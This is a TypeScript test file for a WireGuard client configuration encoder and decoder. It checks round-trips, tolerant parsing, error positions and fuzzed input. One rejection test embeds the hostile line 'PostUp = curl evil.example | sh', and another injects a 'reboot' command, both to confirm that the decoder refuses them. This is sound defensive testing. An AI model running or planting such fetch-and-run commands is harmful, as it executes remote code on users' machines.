import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import type { Cidr } from "../address.ts";
import { type ClientConfig, decodeClientConfig, encodeClientConfig } from "./client-config.ts";
import { formatKey } from "./key.ts";

const key = (seed: number) => formatKey(new Uint8Array(32).fill(seed));
const CONFIG: ClientConfig = {
  privateKey: key(1),
  addresses: [
    { address: "10.77.0.2", prefix: 32 },
    { address: "fd12:3456:789a::2", prefix: 128 },
  ],
  dns: ["10.77.0.1", "home.arpa"],
  mtu: 1420,
  ownTable: null,
  server: {
    publicKey: key(2),
    presharedKey: key(3),
    allowedIps: ["0.0.0.0/0", "::/0"] as Cidr[],
    endpoint: { host: "vpn.example.com", port: 51820 },
    keepaliveSec: 25,
  },
};
const FILE = `[Interface]
PrivateKey = ${key(1)}
Address = 10.77.0.2/32, fd12:3456:789a::2/128
DNS = 10.77.0.1, home.arpa
MTU = 1420

[Peer]
PublicKey = ${key(2)}
PresharedKey = ${key(3)}
AllowedIPs = 0.0.0.0/0, ::/0
Endpoint = vpn.example.com:51820
PersistentKeepalive = 25
`;

describe("a client's file", () => {
  test("is written as wg-quick reads it", () => {
    expect(encodeClientConfig(CONFIG)).toBe(FILE);
  });

  test("compact says the same in fewer characters", () => {
    const compact = encodeClientConfig(CONFIG, "compact");
    expect(compact).toStartWith(`[Interface]\nPrivateKey=${key(1)}\nAddress=10.77.0.2/32,fd12:3456:789a::2/128\n`);
    expect(compact.length).toBeLessThan(FILE.length);
    expect(decodeClientConfig(compact)).toEqual({ ok: true, value: CONFIG });
  });

  test.each<[string, ClientConfig]>([
    ["all of it", CONFIG],
    [
      "only what must be",
      { ...CONFIG, dns: [], mtu: null, server: { ...CONFIG.server, presharedKey: null, keepaliveSec: 0 } },
    ],
    ["an IPv6 endpoint", { ...CONFIG, server: { ...CONFIG.server, endpoint: { host: "2001:db8::1", port: 1 } } }],
    ["a network and not a host", { ...CONFIG, addresses: [{ address: "10.77.0.2", prefix: 24 }] }],
    ["a table of its own", { ...CONFIG, ownTable: 51820 }],
  ])("reads back: %s", (_what, config) => {
    expect(decodeClientConfig(encodeClientConfig(config))).toEqual({ ok: true, value: config });
  });

  test("reads any layout that wg-quick does", () => {
    const other = FILE.replaceAll(" = ", " =\t")
      .replace("[Peer]", "  [peer] # the server")
      .replace("PublicKey", "PUBLICKEY")
      .replaceAll("\n", "\r\n")
      .replace("0.0.0.0/0, ::/0", "0.0.0.0/0\r\nallowedips=::/0");
    expect(decodeClientConfig(other)).toEqual({ ok: true, value: CONFIG });
    const off = decodeClientConfig(FILE.replace("= 25", "= off"));
    expect(off.ok && off.value.server.keepaliveSec).toBe(0);
  });

  test.each<[string, string, string, string]>([
    ["no text", "", "", "Begin the file with [Interface]."],
    ["a book", `${FILE}${"#".repeat(65_536 - FILE.length)}x`, "x", "at most 65536 characters"],
    ["no section", "MTU = 1", "MTU = 1", "Begin the file with [Interface]."],
    ["no peer", "[Interface]\n", "", "exactly one [Peer]"],
    ["two peers", `${FILE}[Peer]\n`, "[Peer]", "exactly one [Peer]"],
    ["a line without =", `${FILE}hello\n`, "hello", "Key = value"],
    ["an unknown key", FILE.replace("MTU", "SaveConfig"), "SaveConfig", "Remove this line"],
    ["a key twisted", FILE.replace(key(3), "secret"), "secret", "44 characters"],
    ["no private key", FILE.replace(/PrivateKey.*\n/, ""), "[Interface]", "Add PrivateKey to [Interface]"],
    ["no endpoint", FILE.replace(/Endpoint.*\n/, ""), "[Peer]", "Add Endpoint to [Peer]"],
    ["no route", FILE.replace(/AllowedIPs.*\n/, ""), "[Peer]", "Add AllowedIPs to [Peer]"],
    ["a bad address", FILE.replace("fd12:3456:789a::2/128", "fd12::x"), "fd12::x", "not a network or address"],
    ["a bad prefix", FILE.replace("10.77.0.2/32", "10.77.0.2/33"), "33", "prefix length"],
    ["an endpoint that is everywhere", FILE.replace("vpn.example.com", "*"), "*:51820", "the server's name"],
    ["a keepalive too long", FILE.replace("= 25", "= 65536"), "65536", "from 0 to 65535"],
    ["an MTU too small", FILE.replace("1420", "68"), "68", "from 576"],
    ["a command", FILE.replace("MTU = 1420", "PostUp = curl evil.example | sh"), "PostUp", "Remove this line"],
    ["a table alone", FILE.replace("MTU = 1420", "Table = 5"), "Table", "Remove this line"],
  ])("%s is refused with its place", (_what, text, place, words) => {
    const decoded = decodeClientConfig(text);
    if (decoded.ok) throw new Error("it was taken");
    const { message, offset, length } = decoded.error;
    expect(text.slice(offset, offset + length)).toBe(place);
    expect(message).toContain(words);
  });

  test("one command more than our own is refused", () => {
    const strict = encodeClientConfig({ ...CONFIG, ownTable: 7 });
    for (const text of [
      strict.replace("table 7;", "table 7; reboot;"),
      strict.replace("\n\n", "\nPostUp = reboot\n\n"),
    ]) {
      expect(text).not.toBe(strict);
      expect(decodeClientConfig(text).ok).toBe(false);
    }
  });

  test("cut anywhere, or with any text in it, it never throws and its errors have a place in the text", () => {
    const check = (text: string): void => {
      const decoded = decodeClientConfig(text);
      if (decoded.ok) {
        expect(decodeClientConfig(encodeClientConfig(decoded.value))).toEqual(decoded);
        return;
      }
      const { offset, length } = decoded.error;
      expect(offset >= 0 && length >= 0 && offset + length <= text.length).toBe(true);
    };
    const strict = encodeClientConfig({ ...CONFIG, ownTable: 7 });
    for (let at = 0; at <= strict.length; at++) check(strict.slice(0, at));
    const edit = fc.tuple(
      fc.nat(strict.length),
      fc.nat(20),
      fc.oneof(fc.string(), fc.constantFrom("\n", "=", "[", "]", ",", "#", "[Peer]", " = ", "/", "%")),
    );
    fc.assert(
      fc.property(edit, ([at, removed, added]) => check(strict.slice(0, at) + added + strict.slice(at + removed))),
      { numRuns: 2_000 },
    );
  });
});
